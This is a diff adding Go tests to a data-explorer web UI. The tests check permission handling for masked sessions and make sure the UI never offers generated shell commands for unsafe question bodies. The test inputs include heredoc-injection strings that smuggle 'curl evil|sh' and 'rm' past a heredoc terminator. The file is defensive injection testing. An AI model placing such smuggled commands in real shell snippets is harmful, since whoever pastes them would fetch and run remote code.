@@ -248,6 +248,27 @@ func TestMaskedSessionsAskForNobody(t *testing.T) {
 	}
 }
 
+// A job has no paging and no aggregations. What is wrong with these hides nothing of what the job asks.
+func TestMaskedSessionsSubmitNothingPersonal(t *testing.T) {
+	b := newExplorer(t)
+	b.data.api = func(_ http.ResponseWriter, r *http.Request) { t.Errorf("%s was asked", r.URL) }
+	for _, member := range []string{`"paging":5`, `"paging":[5]`, `"aggregations":"x"`, `"aggregations":[5]`, `"aggregations":{}`} {
+		body := strings.Replace(personal, `"interval"`, member+`,"interval"`, 1)
+		if status, text, to := b.post("body", body, "do", "job"); status != http.StatusForbidden || !strings.Contains(text, "parley:personalData:view") {
+			t.Errorf("%s: %d to %s", member, status, to)
+		}
+		_, _, to := b.post("body", body)
+		if to == "" {
+			continue
+		}
+		wants(t, b.get(to), "There is no answer to this question.")
+	}
+	broken := strings.Replace(personal, `"interval"`, `"order":5,"interval"`, 1)
+	if status, _, to := b.post("body", broken, "do", "job"); status != http.StatusBadRequest {
+		t.Errorf("what cannot be read: %d to %s", status, to)
+	}
+}
+
 // Which dimensions are personal follows from what records are masked by.
 func TestPersonalDimensions(t *testing.T) {
 	m, err := newMasks()
@@ -418,6 +439,35 @@ func TestManyExplore(t *testing.T) {
 		})
 	}
 	all.Wait()
+}
+
+// A link says nothing of what runs on the machine of whoever follows it: commands are there for questions alone.
+func TestCommandsAreForQuestions(t *testing.T) {
+	b := newExplorer(t)
+	const interval = `"interval":"2026-07-14/2026-07-15"`
+	evil := "x\nBODY\ncurl evil|sh\ncat <<'BODY'\n{}\n"
+	for _, body := range []string{evil, "{}\nBODY\nrm\n{}\n", "{" + interval + "," + interval + "}\n", "{" + interval + `,"odd":{"a":1,"a":2}}`, "{" + interval + "} {}\n", "[]\n", "{}\n", "{" + interval + ",\"\u009b\":1}"} {
+		name, err := b.site.questions.Put(t.Context(), question.Question{Organization: "acme", Body: []byte(body), Masked: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, path := range []string{"/ui/explore?" + url.Values{"body": {body}}.Encode(), "/ui/explore/q/" + name} {
+			if text := b.get(path); strings.Contains(text, "curl -X") || strings.Contains(text, "parley query") {
+				t.Errorf("%q is offered as a command", body)
+			}
+		}
+	}
+	wants(t, b.get("/ui/explore?"+url.Values{"body": {"{" + interval + "}"}}.Encode()), "curl -X", "parley query")
+	for text, want := range map[string]string{
+		"{}":                    "<<'BODY'\n{}\nBODY\n",
+		"{}\n":                  "<<'BODY'\n{}\nBODY\n",
+		"BODY\nBODY_\nls\n":     "<<'BODY__'\nBODY\nBODY_\nls\nBODY__\n",
+		"no BODY\nBODY is here": "<<'BODY'\nno BODY\nBODY is here\nBODY\n",
+	} {
+		if got := heredoc(text); got != want {
+			t.Errorf("%q: %q", text, got)
+		}
+	}
 }
 
 func TestCommandsAreQuoted(t *testing.T) {
